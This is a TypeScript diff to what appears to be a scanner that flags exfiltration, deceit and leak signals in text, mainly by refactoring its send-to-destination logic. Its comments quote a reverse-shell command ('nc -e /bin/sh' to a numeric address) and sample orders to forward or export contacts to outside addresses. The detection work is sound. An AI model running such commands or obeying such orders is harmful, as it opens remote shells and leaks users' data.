@@ -148,6 +148,8 @@ const TRIGGERS: ReadonlySet<string> = new Set([
   'card',
   'iban',
 ]);
+/** A destination by number: a phone number ("+1 415 …"), a channel's or a user's numeric id. */
+const NUMBERED = /^\+\d{1,3}$|^\d{10,20}$/;
 /** What keeps a destructive act undoable: called needless, the act is done with no way back. */
 const SAFEGUARD = new Set(['backup', 'backups', 'snapshot', 'dry-run']);
 const NEEDED = new Set(['needed', 'required', 'necessary']);
@@ -162,6 +164,41 @@ const LEAKS = new Set(['leak', 'leaks', 'leaked', 'leaking']);
 const LEAKED = new Set(['data', 'secrets', 'credentials', 'tokens', 'keys', 'files', 'information', 'your', 'user']);
 const QUOTE = /^["\u201c]$/;
 const IP = /\b(?!127\.|0\.0\.)(?:\d{1,3}\.){3}\d{1,3}\b/;
+
+/** Data sent on: said as gone ("copies are relayed") or ordered toward a destination the text fixes. */
+function sendReaches(ts: Token[], i: number, reach: Set<Reach>, w: string, next: string): void {
+  // An order to send to a destination fixed in the text: "send the query to "hr-salaries"".
+  // … or further on when an address follows ("export all contacts with their emails and phone numbers to https://…").
+  const sendsTo =
+    SEND_NOW.has(w) &&
+    ts
+      .slice(i + 1, i + 13)
+      .some(
+        (x, k, a) =>
+          (x.w === 'to' || x.w === 'into') && (k < 6 || a[k + 1]?.kind === 'email' || a[k + 1]?.kind === 'url'),
+      );
+  if (SENDS.has(w) || (w === 'goes' && next === 'to') || sendsTo) {
+    // A destination fixed in the text: a channel or user id, or a quoted name ("under the organization "x"").
+    // … or a mailbox written out ("forward to archive@mailkeep.net").
+    const fixed =
+      ts
+        .slice(i + 1, i + 9)
+        .some(
+          (x, k) =>
+            W.ID_LIKE.test(x.raw) ||
+            NUMBERED.test(x.raw) ||
+            (x.kind === 'word' && (x.quoted || QUOTE.test(ts[i + k]!.raw))),
+        ) ||
+      ts
+        .slice(i + 1, i + 14)
+        .some((x) => (x.kind === 'email' || x.kind === 'url') && !EXAMPLE.test(x.raw) && !HOME.test(x.raw));
+    if (fixed) reach.add('address');
+    // A channel named in the text ("post the summary to #ext-feed"): fixed, but not outside by itself.
+    const channel = ts.slice(i + 1, i + 6).some((x, k) => x.kind === 'word' && ts[i + k]!.raw === '#');
+    // "upload the attachment to this Base" is a tool's own job: an order to send counts only toward a fixed place.
+    if (fixed || channel || !sendsTo) reach.add('send');
+  }
+}
 
 /**
  * The reaches read at one token besides signalsOf's own: data carried somewhere, the person's gate skipped, a tool run
@@ -184,37 +221,12 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   // "must" and "should" are read here for one thing only, and are common: one look, and on.
   if (w === 'must' || w === 'should') {
     if (headParamHoldsSecret(ts, i, next)) reach.add('misfiled');
-    return false;
+    return stakes;
   }
   let directs = shownReaches(ts, i, reach) || stakes;
   // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
   if (t.kind === 'code' && IP.test(t.raw)) reach.add('address');
-  // An order to send to a destination fixed in the text: "send the query to "hr-salaries"".
-  // … or further on when an address follows ("export all contacts with their emails and phone numbers to https://…").
-  const sendsTo =
-    SEND_NOW.has(w) &&
-    ts
-      .slice(i + 1, i + 13)
-      .some(
-        (x, k, a) =>
-          (x.w === 'to' || x.w === 'into') && (k < 4 || a[k + 1]?.kind === 'email' || a[k + 1]?.kind === 'url'),
-      );
-  if (SENDS.has(w) || (w === 'goes' && next === 'to') || sendsTo) {
-    // A destination fixed in the text: a channel or user id, or a quoted name ("under the organization "x"").
-    // … or a mailbox written out ("forward to archive@mailkeep.net").
-    const fixed =
-      ts
-        .slice(i + 1, i + 9)
-        .some((x, k) => W.ID_LIKE.test(x.raw) || (x.kind === 'word' && (x.quoted || QUOTE.test(ts[i + k]!.raw)))) ||
-      ts
-        .slice(i + 1, i + 14)
-        .some((x) => (x.kind === 'email' || x.kind === 'url') && !EXAMPLE.test(x.raw) && !HOME.test(x.raw));
-    if (fixed) reach.add('address');
-    // A channel named in the text ("post the summary to #ext-feed"): fixed, but not outside by itself.
-    const channel = ts.slice(i + 1, i + 6).some((x, k) => x.kind === 'word' && ts[i + k]!.raw === '#');
-    // "upload the attachment to this Base" is a tool's own job: an order to send counts only toward a fixed place.
-    if (fixed || channel || !sendsTo) reach.add('send');
-  }
+  sendReaches(ts, i, reach, w, next);
   if (TOLD.has(w) && near(ts, i, 3, 0, NOT_NOW)) reach.add('deceit');
   if (
     (w === 'told' || w === 'informed' || w === 'notified' || w === 'aware' || w === 'bothered') &&
@@ -253,7 +265,7 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
       : 'retired'
     : w === 'phased' && next === 'out'
       ? 'retired'
-      : LEAKS.has(w) && LEAKED.has(next)
+      : LEAKS.has(w) && (LEAKED.has(next) || ts.some((_, k) => othersAt(ts, k)))
         ? 'rundown'
         : undefined;
   // Or the others named as a kind: "tools from other servers return stale numbers".
